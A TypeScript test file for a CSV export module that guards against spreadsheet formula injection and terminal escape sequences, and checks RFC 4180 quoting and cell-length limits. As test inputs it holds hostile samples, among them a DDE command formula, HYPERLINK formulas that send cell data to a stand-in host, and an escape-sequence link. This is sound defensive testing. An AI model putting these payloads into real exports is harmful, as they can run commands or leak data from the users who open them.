import { describe, it, expect } from 'vitest';
import Papa from 'papaparse';
import { spreadsheetCellLimit, spreadsheetSafe } from '../src/format/csv-cell.js';
import { toCsv, type CsvCell } from '../src/format/csv-writer.js';

/** Deterministic pseudo-random numbers (mulberry32), so a failure can be replayed. */
function seededRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function parseCsv(csv: string): string[][] {
  const result = Papa.parse<string[]>(csv, { delimiter: ',', newline: '\r\n', header: false });
  expect(result.errors).toEqual([]);
  return result.data;
}

const marker = (originalLength: number) =>
  `… [cut: ${originalLength.toLocaleString('en-US')} characters in the export]`;

describe('spreadsheetSafe', () => {
  it.each([
    ['equals', '=1+1'],
    ['equals, command', "=cmd|' /C calc'!A0"],
    ['equals, hyperlink', '=HYPERLINK("https://e.vil?"&A1,"Open")'],
    ['plus', '+1+cmd|x'],
    ['minus', '-2+3'],
    ['at', '@SUM(1+1)'],
    ['tab', '\t=1'],
    ['tab alone', '\tplain'],
    ['carriage return', '\r=1'],
    ['carriage return alone', '\rplain'],
    ['full-width equals', '＝1+1'],
    ['full-width plus', '＋1'],
    ['full-width minus', '－1'],
    ['full-width at', '＠SUM(A1)'],
    ['formula on several lines', '=HYPERLINK("https://e.vil")\nsecond line'],
    ['space before the trigger', ' =1+1'],
    ['spaces and tabs before the trigger', '  \t -1'],
    ['line break before the trigger', '\n=1+1'],
    ['no-break space before the trigger', '\u00A0@x'],
    ['ideographic space before full-width equals', '\u3000＝1'],
    ['zero-width space before the trigger', '\u200B=1'],
  ])('prefixes a quote: %s', (_name, hostile) => {
    expect(spreadsheetSafe(hostile)).toBe(`'${hostile}`);
  });

  // A NUL is a trigger (OWASP ASVS 5, 1.2.10), and a control shown as its picture.
  it('prefixes a quote before a NUL, shown as ␀', () => {
    expect(spreadsheetSafe('\0plain')).toBe("'␀plain");
  });

  it.each([
    [
      'an escape sequence',
      'before \u001b]8;;https://evil.example\u0007link',
      'before ␛]8;;https://evil.example␇link',
    ],
    ['a clear screen', 'x\u001b[2Jy', 'x␛[2Jy'],
    ['a C1 control sequence introducer', 'x\u009b2Jy', 'x<U+009B>2Jy'],
    ['a backspace and DEL', 'a\bb\u007f', 'a␈b␡'],
  ])('shows %s instead of handing it to a terminal that prints the CSV', (_name, text, shown) => {
    expect(spreadsheetSafe(text)).toBe(shown);
  });

  it('keeps tabs and line breaks inside a cell', () => {
    expect(spreadsheetSafe('a\tb\r\nc\nd')).toBe('a\tb\r\nc\nd');
  });

  it.each([
    ['plain text', 'Hello, world'],
    ['empty', ''],
    ['trigger later in the cell', 'a=1+1'],
    ['hyphenated', 'well-known'],
    ['hashtag', '#OpenToWork'],
    ['already quoted', "'=1+1"],
    ['digits', '0123'],
    ['spaces only', '   '],
    ['multi-line text', 'line 1\r\nline 2\nline "3"'],
    ['unicode', 'Zoë 日本 👍'],
  ])('keeps verbatim: %s', (_name, text) => {
    expect(spreadsheetSafe(text)).toBe(text);
  });

  it('is idempotent', () => {
    for (const value of ['=1', ' -1', 'x', 'a'.repeat(40_000), `=${'a'.repeat(40_000)}`]) {
      const once = spreadsheetSafe(value);
      expect(spreadsheetSafe(once)).toBe(once);
    }
  });

  describe('cell limit', () => {
    it('keeps a cell of exactly the limit', () => {
      const value = 'a'.repeat(spreadsheetCellLimit);
      expect(spreadsheetSafe(value)).toBe(value);
    });

    it.each([spreadsheetCellLimit + 1, 40_000, 1_000_000])(
      'cuts a cell of %i characters to the limit, marker included',
      (length) => {
        const cell = spreadsheetSafe('a'.repeat(length));
        const expectedMarker = marker(length);
        expect(cell).toHaveLength(spreadsheetCellLimit);
        expect(cell).toBe(
          'a'.repeat(spreadsheetCellLimit - expectedMarker.length) + expectedMarker,
        );
      },
    );

    it('counts the quote prefix against the limit, and reports the original length', () => {
      const value = `=${'a'.repeat(spreadsheetCellLimit - 1)}`;
      const cell = spreadsheetSafe(value);
      const expectedMarker = marker(spreadsheetCellLimit);
      expect(cell).toHaveLength(spreadsheetCellLimit);
      expect(cell).toBe(
        `'=${'a'.repeat(spreadsheetCellLimit - 2 - expectedMarker.length)}${expectedMarker}`,
      );
    });

    it('never splits a surrogate pair', () => {
      const keptLength = spreadsheetCellLimit - marker(40_000).length;
      const value = 'a'.repeat(keptLength - 1) + '😀'.repeat((40_000 - keptLength + 1) / 2);
      expect(value).toHaveLength(40_000);
      const cell = spreadsheetSafe(value);
      expect(cell).toBe('a'.repeat(keptLength - 1) + marker(40_000));
      expect(cell).toHaveLength(spreadsheetCellLimit - 1);
    });

    it('never splits a grapheme cluster', () => {
      const family = '👨\u200D👩\u200D👧';
      const keptLength = spreadsheetCellLimit - marker(40_000).length;
      const head = 'a'.repeat(keptLength - 3);
      const value = head + family + 'b'.repeat(40_000 - head.length - family.length);
      expect(spreadsheetSafe(value)).toBe(head + marker(40_000));
    });
  });
});

describe('toCsv', () => {
  it('writes RFC 4180: header, CRLF between records, quoting only where needed', () => {
    const csv = toCsv(
      ['Name', 'Note', 'Count'],
      [
        ['Ann', 'plain', 1],
        ['Bob, Jr.', 'said "hi"', 2.5],
        ['Cy', 'two\r\nlines', null],
        ['Di', 'lf\nonly', true],
        [' padded', 'trailing ', false],
      ],
    );
    expect(csv).toBe(
      [
        'Name,Note,Count',
        'Ann,plain,1',
        '"Bob, Jr.","said ""hi""",2.5',
        'Cy,"two\r\nlines",',
        'Di,"lf\nonly",true',
        '" padded","trailing ",false',
      ].join('\r\n'),
    );
  });

  it('writes the header row when there are no rows', () => {
    expect(toCsv(['a', 'b'], [])).toBe('a,b');
    expect(toCsv(['only'], [])).toBe('only');
  });

  it('quotes the empty cell of a one-column table, so that the record is not a blank line', () => {
    expect(toCsv(['a'], [[''], ['x'], [null]])).toBe('a\r\n""\r\nx\r\n""');
    expect(parseCsv(toCsv(['a'], [[''], ['x'], [null]]))).toEqual([['a'], [''], ['x'], ['']]);
  });

  // A spreadsheet that splits on `;` (Excel in much of Europe) or on tabs would otherwise start
  // a new cell inside the text, and the formula there would run.
  it('quotes cells holding a semicolon or a tab, whatever their place', () => {
    expect(toCsv(['a', 'b'], [['nice post;=1+1;bye', 'x\t=HYPERLINK("h")']])).toBe(
      'a,b\r\n"nice post;=1+1;bye","x\t=HYPERLINK(""h"")"',
    );
    expect(parseCsv(toCsv(['a'], [['one;two']]))).toEqual([['a'], ['one;two']]);
  });

  it('quotes cells with leading or trailing whitespace other than spaces', () => {
    expect(toCsv(['a', 'b'], [['x\t', '\u00A0y']])).toBe('a,b\r\n"x\t","\u00A0y"');
  });

  it('neutralises formulas in text cells and in the header', () => {
    expect(
      toCsv(
        ['=Name', '@x'],
        [
          ['=1+1', '\r=2'],
          ['+3', '－4'],
        ],
      ),
    ).toBe(`'=Name,'@x\r\n'=1+1,"'\r=2"\r\n'+3,'－4`);
  });

  it('writes numbers plainly, with no quote prefix even when negative', () => {
    expect(toCsv(['n', 'm', 'o'], [[-5, -0.25, 1e21]])).toBe('n,m,o\r\n-5,-0.25,1e+21');
  });

  it('prefixes a quote exactly once (Papa’s own formula escaping stays off)', () => {
    const csv = toCsv(
      ['a', 'b'],
      [
        ['=1', '-1'],
        ['=x\ny', '@'],
      ],
    );
    expect(csv).toBe(`a,b\r\n'=1,'-1\r\n"'=x\ny",'@`);
    expect(csv).not.toContain("''");
  });

  it('adds a UTF-8 byte order mark only when asked', () => {
    expect(toCsv(['a'], [['é']], { bom: true })).toBe('\uFEFFa\r\né');
    expect(toCsv(['a'], [['é']])).toBe('a\r\né');
    expect(toCsv(['a'], [['é']], { bom: false })).toBe('a\r\né');
  });

  it('rejects rows that do not match the header, and an empty header', () => {
    expect(() => toCsv(['a', 'b'], [['x']])).toThrow(RangeError);
    expect(() => toCsv(['a'], [['x', 'y']])).toThrow(RangeError);
    expect(() => toCsv([], [])).toThrow(RangeError);
  });

  it('round-trips: parsing gives back exactly what spreadsheetSafe produced, row for row', () => {
    const pieces = [
      ...['', ' ', '"', '""', ',', ';', '\r\n', '\n', '\r', '\t', "'", '=', '+', '-', '@'],
      ...['＝', 'a', 'Zoë', '日本語', '👨\u200D👩\u200D👧', '\uFEFF', '\0', '\u2028', 'x y'],
      ...['=HYPERLINK("https://e.vil")', '"quoted, with comma"', 'line\r\nbreak'],
    ];
    const random = seededRandom(4_180);
    const randomText = () =>
      Array.from(
        { length: Math.floor(random() * 6) },
        () => pieces[Math.floor(random() * pieces.length)] ?? '',
      ).join('');
    const randomCell = (): CsvCell => {
      const kind = random();
      if (kind < 0.05) return null;
      if (kind < 0.1) return Math.round((random() - 0.5) * 1e6) / 100;
      if (kind < 0.12) return random() < 0.5;
      return randomText();
    };

    for (const columnCount of [1, 2, 5]) {
      const columns = Array.from({ length: columnCount }, randomText);
      const rows = Array.from({ length: 300 }, () =>
        Array.from({ length: columnCount }, randomCell),
      );
      const expected = [columns, ...rows].map((row) =>
        row.map((cell) => (typeof cell === 'string' ? spreadsheetSafe(cell) : String(cell ?? ''))),
      );
      expect(parseCsv(toCsv(columns, rows))).toEqual(expected);
      expect(parseCsv(toCsv(columns, rows, { bom: true }))).toEqual(expected);
    }
  });

  it('round-trips cells cut at the limit', () => {
    const long = `=${'"'.repeat(50_000)}`;
    const csv = toCsv(['long'], [[long]]);
    expect(parseCsv(csv)).toEqual([['long'], [spreadsheetSafe(long)]]);
    expect(spreadsheetSafe(long)).toHaveLength(spreadsheetCellLimit);
  });
});
